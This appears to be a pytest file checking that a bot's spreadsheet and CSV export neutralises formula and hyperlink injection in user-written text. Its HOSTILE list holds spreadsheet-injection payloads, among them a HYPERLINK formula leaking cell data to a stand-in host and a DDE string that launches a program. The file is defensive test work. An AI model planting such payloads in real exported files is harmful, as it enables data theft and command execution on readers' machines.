"""Tables as files: what a person wrote stays words, whatever it looks like, and numbers stay numbers."""

import csv
from io import BytesIO, StringIO

import pytest
from openpyxl import load_workbook

from bot.reporting.spreadsheet import commas, workbook

HOSTILE = (
    "=1+1",
    '=HYPERLINK("http://evil.test?x="&A1,"klik")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-1+1",
    "@SUM(1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "\N{FULLWIDTH EQUALS SIGN}1+1",
    "{=1+1}",
    "http://evil.test/",
    "mailto:a@evil.test",
    "internal:Sheet1!A1",
)
PLAIN = ("Batik <b>Siti</b> & Anak", '"dikutip", koma', "dua\nbaris", "0812", "1e5", "")


def test_a_workbook_holds_no_formula_and_no_link_whatever_is_written() -> None:
    lines = [(words, 12, 3.5, None) for words in (*HOSTILE, *PLAIN)]

    sheet = load_workbook(BytesIO(workbook([("Antrean [1]/2", ("=kepala", "n", "x", "y"), lines)]))).worksheets[0]

    rows = list(sheet.iter_rows())
    assert [cell.value for cell in rows[0]] == ["=kepala", "n", "x", "y"]
    assert len(rows) == len(lines) + 1
    for row, (words, *_) in zip(rows[1:], lines, strict=True):
        assert row[0].data_type != "f"
        assert row[0].hyperlink is None
        assert (row[0].value or "").replace("_x000D_", "\r") == words
        assert (row[1].data_type, row[1].value, row[2].value, row[3].value) == ("n", 12, 3.5, None)


def test_words_that_a_cell_cannot_hold_are_cut_off_not_refused() -> None:
    sheet = load_workbook(BytesIO(workbook([("x", ("a",), [("k" * 40_000,), ("\x01\ud800b",)])]))).worksheets[0]

    assert len(sheet["A2"].value) == 32_767
    assert sheet["A3"].value.endswith("b")


@pytest.mark.parametrize("words", HOSTILE[:11])
def test_a_csv_puts_an_apostrophe_before_what_would_be_a_formula(words: str) -> None:
    content = commas(("=kepala", "angka"), [(words, -5), ("biasa", 2.5)])

    assert content.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(StringIO(content.decode("utf-8-sig"), newline="")))
    assert rows == [["'=kepala", "angka"], [f"'{words}", "-5"], ["biasa", "2.5"]]


@pytest.mark.parametrize("words", PLAIN)
def test_a_csv_leaves_other_words_alone(words: str) -> None:
    assert list(csv.reader(StringIO(commas(("a", "b"), [(words, 1)]).decode("utf-8-sig"), newline="")))[1] == [words, "1"]
